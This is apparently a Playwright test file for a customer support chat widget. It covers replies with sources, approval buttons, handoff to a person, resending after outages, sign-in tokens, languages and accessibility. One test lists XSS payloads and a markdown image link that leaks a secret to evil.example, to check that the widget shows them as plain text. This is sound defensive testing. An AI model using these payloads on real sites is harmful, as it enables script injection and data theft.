"""The chat page `/`, driven in a real browser against a real server."""

from __future__ import annotations

import gzip
import re
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from playwright.sync_api import Browser, expect

from app import events as e
from tests.app.web.browsing import (
    DIST,
    FOCUSED,
    FOREIGN,
    SEEN,
    Opened,
    checklist,
    cited,
    everything,
    guide,
    needs_chromium,
    perform,
    propose,
    proposed,
)

pytestmark = needs_chromium


# --- talking ---


def test_a_talk_from_question_to_sourced_reply(live: Any, open_page: Callable[..., Opened]) -> None:
    live.service.play = guide
    here = open_page(live.url)
    here.box.fill("first line")
    here.box.press("Shift+Enter")
    here.box.press_sequentially("second line")
    here.box.press("Enter")
    expect(here.log.locator(".customer .bubble")).to_have_text("first line\nsecond line")
    expect(here.box).to_have_value("")
    reply = here.log.get_by_role("article", name=re.compile("^Stepfour, "))
    expect(reply.locator("strong", has_text="certificate")).to_be_visible()
    expect(reply.locator(".bubble li")).to_have_text(["Cover go.acme.example.", "Pass on the header."])
    opener = reply.locator("button.mark")
    card = reply.get_by_role("group", name="Source 1: HTTPS for tracking links")
    expect(card).to_be_hidden()
    opener.click()
    expect(card).to_contain_text("Let it obtain a certificate that covers exactly this name.")
    expect(card).to_contain_text("Updated 14 Sept 2026 · en/https-tracking-links.md#ssl-certificate")
    here.page.keyboard.press("Escape")
    expect(card).to_be_hidden()
    expect(opener).to_be_focused()
    expect(here.page.locator(".status")).to_have_text("Over to you")
    assert here.complaints == []
    assert {url.removeprefix(live.url)[:1] for url in here.asked} == {"/"}, "no request leaves the house"


def test_each_step_has_a_word_and_what_was_seen(live: Any, open_page: Callable[..., Opened]) -> None:
    live.service.play = guide
    here = open_page(live.url)
    here.send("hello")
    steps = here.page.get_by_role("region", name=re.compile("HTTPS for tracking links")).locator("li")
    expect(steps.nth(0)).to_contain_text("Checked by us 2 minutes ago")
    expect(steps.nth(1)).to_contain_text("You told us")
    expect(steps.nth(1).locator("q")).to_have_text("I did that too")
    expect(steps.nth(2)).to_contain_text("Does not look right")
    expect(steps.nth(2)).to_contain_text(SEEN)
    expect(here.page.get_by_role("button", name=re.compile("2 of 3 done, 1 to fix"))).to_be_visible()


WORDS = {
    "verified": "Checked by us",
    "contradicted": "Does not look right",
    "missing": "Not done yet",
    "evidenced": "Seen in what you sent",
    "claimed": "You told us",
    "not_done": "You told us it is not done yet",
    "failed": "You told us it did not work",
    "unknown": "Not known yet",
    "not_applicable": "Not needed here",
}


def test_every_word_is_written_out_and_a_watch_says_when(live: Any, open_page: Callable[..., Opened]) -> None:
    here = open_page(live.url)
    here.send("hello")
    id = here.sent()
    steps = tuple(e.ShownStep(id=word, title=word, word=word) for word in WORDS)
    due = datetime.now(UTC) + timedelta(minutes=10)
    watching = e.Watching(step="missing", next_look_at=due)
    live.do(live.service.show(id, checklist(steps=steps, watching=watching)))
    for n, word in enumerate(WORDS.values()):
        expect(here.page.locator(".steps li").nth(n).locator(".step-word")).to_have_text(word)
    expect(here.page.locator("li[data-word=missing]")).to_contain_text("We look again at")
    assert set(WORDS) == set(e.ShownStep.model_fields["word"].annotation.__args__)  # type: ignore[union-attr]


def test_an_approval_is_a_press_of_a_named_button(live: Any, open_page: Callable[..., Opened]) -> None:
    live.service.play, live.service.perform = propose, perform
    here = open_page(live.url)
    here.send("please")
    card = here.log.get_by_role("group", name="Switch HTTPS on")
    expect(card).to_contain_text("links.acme.example")
    expect(card).to_contain_text("A certificate is there.")
    card.get_by_role("button", name="Switch HTTPS on").click()
    expect(card).to_contain_text("Done, and checked again")
    expect(card.get_by_role("button")).to_have_count(0)
    expect(here.page.locator(".steps li").last).to_contain_text("Done, and checked again")
    expect(here.page.get_by_role("button", name=re.compile("2 of 2 done"))).to_be_visible()


def test_a_card_promises_nothing_where_its_title_says_all(
    live: Any, open_page: Callable[..., Opened]
) -> None:
    here = open_page(live.url)
    here.send("please")
    conversation = live.do(live.service.store.conversation(here.conversation()))
    request = live.do(live.service.propose(conversation.id, conversation.principal, inputs=()))
    live.do(live.service.show(conversation.id, proposed(request)))
    card = here.log.get_by_role("group", name="Switch HTTPS on")
    expect(card).to_contain_text("Can be undone: We can switch it off again.")
    expect(card.locator(".card-title")).to_have_text(["What we saw"])


def test_a_card_that_is_shown_again_comes_to_where_they_read(
    live: Any, open_page: Callable[..., Opened]
) -> None:
    live.service.play = propose
    here = open_page(live.url)
    here.send("please")
    card = here.log.get_by_role("group", name="Switch HTTPS on")
    expect(card).to_be_visible()
    id = here.conversation()
    live.do(live.service.say(id, "Only the button counts."))
    expect(here.log.locator("> *").last).to_contain_text("Only the button counts.")
    (request,) = [r for r in live.do(live.service.store.requests("proposed")) if r.conversation == id]
    live.do(live.service.show(id, proposed(request)))
    expect(here.log.locator("> *").last).to_contain_text("Switch HTTPS on")
    expect(card).to_have_count(1)
    here.page.reload()
    expect(here.log.locator("> *").last).to_contain_text("Switch HTTPS on")
    expect(card).to_have_count(1)


def test_a_refused_proposal_is_decided_too(live: Any, open_page: Callable[..., Opened]) -> None:
    live.service.play = propose
    here = open_page(live.url)
    here.send("please")
    expect(here.log.get_by_role("button", name="Not now")).to_be_visible()
    requests = live.do(live.service.store.requests("proposed"))
    (request,) = [r for r in requests if r.conversation == here.conversation()]
    moved = live.do(live.service.store.move(request, "expired"))
    assert moved is not None
    here.log.get_by_role("button", name="Not now").click()
    expect(here.log).to_contain_text("The time to decide is over.")


def test_a_person_is_one_press_away(live: Any, open_page: Callable[..., Opened]) -> None:
    here = open_page(live.url)
    here.page.get_by_role("button", name="Talk to a person").click()
    expect(here.log).to_contain_text("Passed on to a person")
    expect(here.page.locator(".status")).to_have_text("Passed on to a person")
    id = here.conversation()
    live.do(live.service.show(id, e.Handoff(state="joined", name="Kim")))
    expect(here.log).to_contain_text("Kim has joined the conversation.")


async def silent(service: Any, message: Any) -> None:
    for status in ("bot_working", "with_agents"):
        await service.show(message.conversation, e.ConversationStatus(status=status))


def test_who_writes_on_while_a_person_has_it_is_told_that_it_is_read(
    live: Any, open_page: Callable[..., Opened]
) -> None:
    here = open_page(live.url)
    person = here.page.get_by_role("button", name="Talk to a person")
    person.click()
    expect(here.page.locator(".status")).to_have_text("Passed on to a person")
    expect(person).to_be_hidden()
    expect(here.box).to_be_focused()
    live.service.play = silent
    read = "Our team reads this here and answers in this conversation."
    for text in ("hello?", "anybody?"):
        here.send(text)
        expect(here.log.locator("article").last).to_contain_text(read)
        expect(here.log.get_by_text(read)).to_have_count(1)
    live.do(live.service.show(here.conversation(), e.ConversationStatus(status="awaiting_customer")))
    expect(person).to_be_visible()


def test_a_long_reply_is_read_from_its_first_line(live: Any, open_page: Callable[..., Opened]) -> None:
    here = open_page(live.url, viewport={"width": 400, "height": 500})
    here.send("hello")
    id = here.sent()
    live.do(live.service.say(id, "The first line.\n\n" + "More.\n\n" * 60))
    live.do(live.service.show(id, e.ConversationStatus(status="awaiting_customer")))
    expect(here.page.locator(".status")).to_have_text("Over to you")
    expect(here.log.get_by_text("The first line.")).to_be_in_viewport()


def test_a_watched_step_that_looks_wrong_keeps_its_word(live: Any, open_page: Callable[..., Opened]) -> None:
    here = open_page(live.url)
    here.send("hello")
    watching = e.Watching(step="three", next_look_at=datetime.now(UTC) + timedelta(minutes=10))
    live.do(live.service.show(here.conversation(), checklist(watching=watching)))
    step = here.page.locator(".steps li").nth(2)
    expect(step.locator(".step-word")).to_have_text("Does not look right")
    expect(step).to_contain_text("We look again at")


# --- nothing is lost ---


def test_the_talk_survives_a_reload(live: Any, open_page: Callable[..., Opened]) -> None:
    live.service.play = guide
    here = open_page(live.url)
    here.send("hello")
    expect(here.log.locator(".bot")).to_have_count(1)
    before = here.log.inner_text()
    here.page.reload()
    expect(here.log.locator(".bot")).to_have_count(1)
    expect(here.log.locator(".customer")).to_have_count(1)
    expect(here.log).to_have_attribute("aria-busy", "false")
    assert here.log.inner_text() == before
    expect(here.page.locator(".steps li")).to_have_count(3)


def test_what_was_written_while_we_were_away_is_sent_once_we_are_back(
    site: Any, open_page: Callable[..., Opened]
) -> None:
    site.play = guide
    site.start()
    here = open_page(site.url)
    here.send("before")
    expect(here.log.locator(".bot")).to_have_count(1)
    id = here.conversation()
    site.stop()
    here.send("while you were away")
    expect(here.log.locator(".unsent")).to_contain_text("Waiting to be sent")
    expect(here.page.get_by_role("alert")).to_contain_text("What you wrote is kept")
    site.start()
    here.page.get_by_role("button", name="Try again").click()
    expect(here.log.locator(".bot")).to_have_count(2)
    expect(here.log.locator(".unsent")).to_have_count(0)
    expect(here.page.get_by_role("alert")).to_be_hidden()
    said = [m.text for m in site.do(site.service.store.messages(id)) if m.role == "customer"]
    assert said == ["before", "while you were away"]


def test_an_unsent_message_survives_a_reload(live: Any, open_page: Callable[..., Opened]) -> None:
    here = open_page(live.url)
    here.page.route("**/messages", lambda route: route.abort())
    here.send("keep this")
    expect(here.log.locator(".unsent")).to_contain_text("Waiting to be sent")
    here.page.unroute("**/messages")
    here.page.reload()
    expect(here.log.locator(".customer")).to_have_count(1)
    expect(here.log.locator(".unsent")).to_have_count(0)
    assert [m.text for m in live.do(live.service.store.messages(here.conversation()))] == ["keep this"]


def test_a_lost_acknowledgement_makes_no_second_message(live: Any, open_page: Callable[..., Opened]) -> None:
    here = open_page(live.url)
    sent: list[Any] = []

    def lose_the_first(route: Any) -> None:
        sent.append(route.request.post_data_json["client_message_id"])
        if len(sent) == 1:
            route.fetch()
            route.abort()
        else:
            route.continue_()

    here.page.route("**/messages", lose_the_first)
    here.send("once")
    expect(here.log.locator(".unsent")).to_have_count(0)
    here.page.wait_for_function("() => !Object.keys(localStorage).some((key) => key.includes('.outbox.'))")
    assert len(sent) >= 2
    assert len(set(sent)) == 1
    assert len(live.do(live.service.store.messages(here.conversation()))) == 1
    expect(here.log.locator(".customer")).to_have_count(1)


def test_a_cut_stream_comes_back_where_it_was(site: Any, open_page: Callable[..., Opened]) -> None:
    site.play = guide
    site.start()
    here = open_page(site.url)
    here.send("hello")
    expect(here.page.locator(".status")).to_have_text("Over to you")
    id = here.conversation()
    last = site.do(site.service.store.last_seq(id))
    with here.page.expect_request(lambda r: "last-event-id" in r.headers, timeout=15_000) as back:
        site.stop()
        site.start()
    assert back.value.headers["last-event-id"] == str(last)
    site.do(site.service.say(id, "news from the watch"))
    expect(here.log).to_contain_text("news from the watch")
    expect(here.log.locator(".bot")).to_have_count(2)


def test_a_conversation_that_is_gone_is_begun_anew(live: Any, open_page: Callable[..., Opened]) -> None:
    here = open_page(live.url)
    here.page.evaluate(
        "() => { localStorage.setItem('stepfour.visitor', 'visitor_' + 'x'.repeat(43));"
        " localStorage.setItem('stepfour.conversation.visitor', 'c_gone') }"
    )
    here.page.reload()
    here.send("still there?")
    expect(here.log.locator(".customer")).to_have_count(1)
    expect(here.log.locator(".unsent")).to_have_count(0)
    assert [m.text for m in live.do(live.service.store.messages(here.conversation()))] == ["still there?"]


def test_a_message_that_is_too_long_comes_back_for_editing(
    live: Any, open_page: Callable[..., Opened]
) -> None:
    here = open_page(live.url)
    here.send("x" * 20_001)
    expect(here.log.locator(".refused")).to_contain_text("longer than 20,000 characters")
    here.page.get_by_role("button", name="Edit and send again").click()
    expect(here.box).to_have_value("x" * 20_001)
    expect(here.log.locator(".refused")).to_have_count(0)


def test_an_answer_stands_below_its_question_though_another_message_was_refused(
    live: Any, open_page: Callable[..., Opened]
) -> None:
    live.service.play = guide
    here = open_page(live.url)
    here.send("first")
    expect(here.log.locator(".bot")).to_have_count(1)
    here.send("x" * 20_001)
    expect(here.log.locator(".refused")).to_be_visible()
    here.send("How do I add a domain?")
    expect(here.log.locator(".bot")).to_have_count(2)
    kinds = here.log.locator("article").evaluate_all("all => all.map(one => one.className.split(' ').pop())")
    assert kinds == ["customer", "bot", "refused", "customer", "bot"]


# --- who speaks ---


def test_a_token_leaves_the_address_bar_and_signs_in(
    live: Any, open_page: Callable[..., Opened], sign: Callable[..., str]
) -> None:
    token = sign("ann", "acme")
    here = open_page(f"{live.url}/#token={token}")
    assert here.page.url == f"{live.url}/"
    here.send("hello")
    expect(here.log.locator(".customer")).to_have_count(1)
    conversation = live.do(live.service.store.conversation(here.conversation()))
    assert (conversation.principal.kind, conversation.principal.id) == ("customer", "ann")
    assert token not in here.page.evaluate("() => JSON.stringify(localStorage)")
    assert all(token not in url for url in here.asked if not url.endswith(token))
    assert not here.page.evaluate("() => document.cookie")


def test_an_ended_sign_in_says_so_and_lets_go_on(
    live: Any, open_page: Callable[..., Opened], sign: Callable[..., str]
) -> None:
    here = open_page(f"{live.url}/#token={sign(exp=1)}")
    expect(here.page.get_by_role("alert")).to_contain_text("Your sign-in has ended")
    here.page.get_by_role("button", name="Go on without signing in").click()
    here.send("hello again")
    expect(here.log.locator(".customer")).to_have_count(1)
    conversation = live.do(live.service.store.conversation(here.conversation()))
    assert conversation.principal.kind == "anonymous"


# --- what people and models write is data ---

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<svg/onload=alert(1)>",
    "![x](https://evil.example/leak?q=secret)",
    "[click](javascript:alert(1))",
    "[click](https://evil.example/a)",
    "[a]: https://evil.example\n[a]",
    "<https://evil.example>",
    "`<b onmouseover=alert(1)>`",
    "**<u>x</u>**",
    "- <details open ontoggle=alert(1)>\n  - <style>*{display:none}</style>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "[1](https://evil.example) [2] [999]",
    "\u202ereversed\u202c {{7*7}} ${alert(1)}",
    "> " * 300 + "deep",
    "- " * 300 + "deep",
    "[" * 3000 + "](" * 3000,
    "**a" * 3000,
]


def test_hostile_text_stays_text(live: Any, open_page: Callable[..., Opened]) -> None:
    here = open_page(live.url)
    here.send(HOSTILE[0])
    id = here.conversation()
    for text in HOSTILE:
        source = cited()[0].model_copy(
            update={"title": text[:60], "quote": text, "url": "javascript:alert(1)"}
        )
        live.do(live.service.say(id, text, citations=(source,)))
        note = e.ErrorShown(code="x", message=text)
        step = e.ShownStep(id="s", title=text[:99], word="missing", seen=text, subject=text[:50])
        live.do(
            live.service.show(
                id, note, checklist(title=text[:99], steps=(step,)), e.Handoff(state="joined", name=text[:99])
            )
        )
    expect(here.log.locator(".bot")).to_have_count(len(HOSTILE))
    assert here.complaints == []
    assert not [url for url in here.asked if "evil" in url]
    assert here.log.locator(FOREIGN).count() == 0
    assert here.page.locator(".steps").locator(FOREIGN).count() == 0
    texts = here.log.inner_text()
    for text in HOSTILE[:4]:
        assert text in texts
    expect(here.box).to_be_visible()


def test_a_source_links_only_where_the_server_says(live: Any, open_page: Callable[..., Opened]) -> None:
    here = open_page(live.url)
    here.send("hello")
    source = cited()[0].model_copy(update={"url": "https://help.acme.example/https"})
    live.do(live.service.say(here.conversation(), "See [1].", citations=(source,)))
    here.log.locator("button.mark").click()
    link = here.log.get_by_role("link")
    expect(link).to_have_attribute("href", "https://help.acme.example/https")
    expect(link).to_have_attribute("rel", "noopener noreferrer")


def test_a_source_that_the_text_lists_itself_is_not_listed_again(
    live: Any, open_page: Callable[..., Opened]
) -> None:
    here = open_page(live.url)
    here.send("hello")
    first = cited()[0].model_copy(update={"url": "https://help.acme.example/https"})
    second = first.model_copy(update={"n": 2, "title": "Only numbered"})
    text = "See [1] and [2].\n\n- [1] [HTTPS](https://help.acme.example/https), updated today"
    live.do(live.service.say(here.conversation(), text, citations=(first, second)))
    listed = here.log.locator(".source-open")
    expect(listed).to_have_count(0)  # both lead to one page, and the text leads there
    other = second.model_copy(update={"url": "https://help.acme.example/other"})
    live.do(live.service.say(here.conversation(), text, citations=(first, other)))
    expect(listed).to_have_text(["2Only numbered"])


# --- for everybody ---


@pytest.mark.parametrize(
    ("locale", "lang", "placeholder", "person"),
    [
        ("pt-BR", "pt-BR", "Escreva uma mensagem", "Falar com uma pessoa"),
        ("pt-PT", "pt-BR", "Escreva uma mensagem", "Falar com uma pessoa"),
        ("es-MX", "es", "Escribe un mensaje", "Hablar con una persona"),
        ("de-DE", "en", "Write a message", "Talk to a person"),
    ],
)
def test_the_page_speaks_the_browsers_language(
    live: Any, open_page: Callable[..., Opened], locale: str, lang: str, placeholder: str, person: str
) -> None:
    here = open_page(live.url, locale=locale)
    expect(here.box).to_have_attribute("placeholder", placeholder)
    expect(here.page.locator("html")).to_have_attribute("lang", lang)
    expect(here.page.get_by_role("button", name=person)).to_be_visible()


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("size", [(1280, 900), (320, 640)])
def test_nothing_stands_in_anybodys_way(
    live: Any, open_page: Callable[..., Opened], scheme: str, size: tuple[int, int]
) -> None:
    from axe_playwright_python.sync_playwright import Axe

    live.service.play = everything
    viewport = {"width": size[0], "height": size[1]}
    here = open_page(live.url, color_scheme=scheme, viewport=viewport)

    def violations() -> str:
        found = Axe().run(here.page)
        return found.generate_report() if found.violations_count else ""

    assert violations() == "", "the empty page"
    here.send("hello")
    expect(here.page.locator(".working")).to_be_visible()
    expect(here.page.locator(".draft")).to_be_visible()
    here.page.route("**/messages", lambda route: route.abort())
    here.send("x")
    expect(here.page.get_by_role("alert")).to_be_visible()
    toggle = here.page.locator(".steps-toggle")
    if toggle.get_attribute("aria-expanded") == "false":
        toggle.click()
    expect(here.page.locator(".steps li").first).to_be_visible()
    assert violations() == "", "a whole talk, with everything in it"
    wide = "() => document.documentElement.scrollWidth - document.documentElement.clientWidth"
    assert here.page.evaluate(wide) == 0
    small = (
        "() => [...document.querySelector('stepfour-chat').shadowRoot.querySelectorAll('button, a, summary')]"
        ".filter(b => b.offsetParent && Math.min(b.offsetHeight, b.offsetWidth) < 24).length"
    )
    assert here.page.evaluate(small) == 0


def test_a_reply_being_written_is_not_announced_piece_by_piece(
    live: Any, open_page: Callable[..., Opened]
) -> None:
    here = open_page(live.url)
    here.send("hello")
    expect(here.log.locator(".customer")).to_have_count(1)
    id = here.conversation()
    expect(here.log.locator(".unsent")).to_have_count(0)
    here.page.evaluate(
        "() => { window.heard = 0; const o = new MutationObserver((all) => { window.heard += all.length });"
        " const root = document.querySelector('stepfour-chat').shadowRoot;"
        " for (const live of root.querySelectorAll('[role=log], [role=status], [role=alert]'))"
        " o.observe(live, {childList: true, subtree: true, characterData: true}) }"
    )
    text = "word " * 300
    deltas = [e.MessageDelta(message="m_s", offset=n * 5, text="word ") for n in range(300)]
    live.do(live.service.show(id, *deltas))
    expect(here.page.locator(".draft")).to_contain_text("word word word")
    live.do(
        live.service.show(
            id, e.MessageDone(message=e.ShownMessage(id="m_s", role="bot", text=text, at=datetime.now(UTC)))
        )
    )
    expect(here.log.locator(".bot")).to_have_count(1)
    expect(here.page.locator(".draft")).to_be_hidden()
    assert here.page.evaluate("() => window.heard") <= 3


def test_a_replayed_delta_adds_nothing(live: Any, open_page: Callable[..., Opened]) -> None:
    here = open_page(live.url)
    here.send("hello")
    id = here.sent()
    deltas = [
        e.MessageDelta(message="m_r", offset=o, text=t)
        for o, t in ((0, "ab"), (0, "ab"), (2, "cd"), (1, "b"))
    ]
    live.do(live.service.show(id, *deltas))
    expect(here.page.locator(".draft")).to_have_text("abcd")
    live.do(live.service.show(id, e.MessageReset(message="m_r")))
    expect(here.page.locator(".draft")).to_be_hidden()


def test_the_keyboard_reaches_everything_in_reading_order(
    live: Any, open_page: Callable[..., Opened]
) -> None:
    live.service.play = guide
    here = open_page(live.url)
    here.send("hello")
    expect(here.page.locator(".steps li")).to_have_count(3)
    here.page.reload()
    expect(here.page.locator(".steps li")).to_have_count(3)
    order = []
    for _ in range(15):
        here.page.keyboard.press("Tab")
        order.append(here.page.evaluate(FOCUSED))
    assert order == [
        "person",
        "log",
        "mark",
        "source-open",
        "yes",
        "no",
        "steps-toggle",
        *["small"] * 5,
        "clip",
        "compose",
        "send",
    ]


# --- what is shipped ---


def test_the_built_files_know_no_other_host() -> None:
    built = {path.name: path.read_bytes() for path in DIST.iterdir()}
    ours = {"loader.js", "chat.js", "docs.js", "docs.css", "index.html", "docs.html", "mark.svg"}
    assert set(built) >= ours | {"texts-en.js", "texts-pt-BR.js", "texts-es.js"}
    for name, content in built.items():
        hosts = re.findall(rb"https?://([\w.-]+)", content)
        assert set(hosts) <= {b"www.w3.org"}, f"{name} names {hosts}"
        for forbidden in (b"innerHTML", b"outerHTML", b"insertAdjacentHTML", b"document.write", b"eval("):
            assert forbidden not in content, f"{name} has {forbidden!r}"
        if name.endswith(".html"):
            assert b"<script>" not in content


def test_the_widget_stays_within_its_weight() -> None:
    weight = {path.name: len(gzip.compress(path.read_bytes(), 9)) for path in DIST.iterdir()}
    assert weight["loader.js"] <= 3_072
    for locale in ("en", "pt-BR", "es"):
        until_usable = weight["loader.js"] + weight["chat.js"] + weight[f"texts-{locale}.js"]
        assert until_usable <= 35_840, locale


def test_the_api_page_shows_every_route_from_our_own_files(live: Any, browser: Browser) -> None:
    from axe_playwright_python.sync_playwright import Axe

    page = browser.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(f"{live.url}/docs")
    routes = page.locator(".operation h3 code")
    expect(routes.filter(has_text="/v1/conversations/{id}/events")).to_have_count(1)
    assert routes.count() >= 12
    assert all(url.startswith(live.url) for url in asked)
    assert Axe().run(page).violations_count == 0
    page.close()


def test_time_passes_in_words(live: Any, open_page: Callable[..., Opened]) -> None:
    here = open_page(live.url)
    here.send("hello")
    now = datetime.now(UTC)
    ages = {1: "now", 59: "now", 90: "1 minute ago", 7300: "2 hours ago", 200_000: "2 days ago"}
    steps = tuple(
        e.ShownStep(id=str(s), title="t", word="verified", at=now - timedelta(seconds=s)) for s in ages
    )
    live.do(live.service.show(here.conversation(), checklist(steps=steps)))
    expect(here.page.locator(".step-word")).to_have_text(
        [f"Checked by us {words}" for words in ages.values()]
    )
